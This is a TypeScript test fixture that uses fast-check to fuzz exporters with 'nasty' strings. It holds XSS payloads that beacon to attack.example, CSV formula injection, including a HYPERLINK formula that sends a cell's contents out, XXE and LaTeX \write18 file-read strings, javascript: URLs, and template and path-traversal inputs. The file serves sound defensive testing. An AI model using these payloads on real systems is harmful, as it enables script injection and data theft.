/** Strings that have broken exporters, and what reads their files. Each payload that runs says so in `ran`. */
import fc from 'fast-check';

/** What a payload does: it says that it ran where every kind of page can be asked, and tells the network. */
const RUN = `(globalThis.ran=globalThis.ran||[]).push(1);document.title='ran';new Image().src='https://attack.example/ran'`;

const MARKUP = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `ltr"><script>${RUN}</script>`,
  `" onload="${RUN}" x="`,
  `' onerror='${RUN}' x='`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea></noscript></xmp><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://attack.example/ran">`,
  `<base href="https://attack.example/"><link rel=stylesheet href=//attack.example/ran>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  '&lt;script&gt;&#106;avascript&colon;alert(1)&lt;/script&gt; &copy; &nosuch; &#0; &#xFFFF;',
  '%gt;<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '<br/',
  '<',
  '&',
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'https://user:secret@paper.example/',
  'https://paper.example/"><script>alert(1)</script>?a={b}&copy=1#c{d}#e%zz|[f]',
  "https://paper.example/;=cmd|'/c calc'!A1",
  'https://[::1]:8080/a b\\c',
];

const TABLES = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://attack.example/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
  ' \u200b =1+1',
  '"=1+1',
  "'=1+1",
  "''=1+1",
  '\ufeff=1',
  '\t=1+1',
  '\r=1+1',
  "Report;=cmd|'/c calc'!A1",
  'Report;"=1+1";',
  "a;'=1;''=2; =3;\u200b=4",
  'a\n=1+1\r\n-3',
  'a;b,c\t"d"\r\ne',
  '"',
  "'",
  '""',
  ',',
  ';',
];

const WRITING = [
  '---\ntitle: x\n---\n# y',
  '- a: b\n  c: [d, {e: f',
  '"\\"\\x41 \\u0041 %TAG !y! : # &a *a !!js/function',
  '}\n@online{x, title={y}}',
  '{{{',
  '}}}',
  '\\{ \\} \\input{/etc/passwd} \\write18{id} $x$ ^^7d % # & _ ~ ^',
  '@',
  '%',
  `{{constructor.constructor("x")()}} {% raw %} <%= 1 %> ${'$'}{x} \`= this.x\` %%hidden%%`,
  '[x](javascript:alert(1)) ![y](https://attack.example/ran) <javascript:alert(1)> [[z]]',
  '[x]: javascript:alert(1)\n\n[x]',
  '```\n<script>alert(1)</script>\n```',
  '`',
  '``',
  '`a`b``c```d',
  '~~~\n</pre>',
  '| a | b |\n| - | - |\n| `|` | <b> |',
  '1. a\n99999999999. b\n# c\n> d\n    e\n===\n---',
  'a\n\n<div onclick=alert(1)>\n\nb',
  '!',
  '\\',
  '*** ___ ** __ *a_',
  'By A and B, C; D & E et F',
];

const SIGNS = [
  'a\u202egpj.exe',
  '\u2067never closed',
  'closed\u2069\u2069\u202c twice',
  '\u202a\u202b\u202d\u202e\u2066\u2067\u2068deep',
  '\u2067a, b\u2069 and \u202bc\u202c',
  'a\0b\u0001c\u007fd\u0085e\u009ff',
  'a\ufffeb\uffffc\ufdd0d\u{1ffff}e',
  'lone \ud800 and \udc00 and \ud83d',
  'a\u2028b\u2029c\vd\fe\rf',
  '\u00a0\u3000\u2003 ',
  ' ',
  '',
  '\u200b',
  'e\u0301'.repeat(40),
  'a'.repeat(20_000),
  '../../../../etc/passwd\\..\\..',
  'CON',
  'constructor',
  '__proto__',
  'toString',
  'null',
  '-1',
  'NaN',
];

export const NASTY: readonly string[] = [...MARKUP, ...ADDRESSES, ...TABLES, ...WRITING, ...SIGNS];

/** Any string: a nasty one, several of them, or anything at all. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 4 })), {
        maxLength: 4,
      })
      .map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  // Halves of pairs, which no other unit has.
  {
    weight: 1,
    arbitrary: fc
      .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 12 })
      .map((codes) => String.fromCharCode(...codes)),
  },
);
